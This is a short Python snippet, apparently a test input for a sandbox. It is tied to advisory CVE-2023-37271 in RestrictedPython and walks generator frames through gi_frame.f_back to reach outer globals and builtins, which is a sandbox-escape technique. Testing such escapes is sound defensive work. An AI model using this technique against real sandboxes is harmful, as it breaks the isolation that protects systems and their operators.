# The same through a generator expression and its code object.
# advisory: CVE-2023-37271 (RestrictedPython)
generator = (generator.gi_frame.f_back for _ in [1])
frame = next(generator)
while frame:
    reach(frame.f_globals, frame.f_builtins)
    frame = frame.f_back
print("ATTEMPTED")
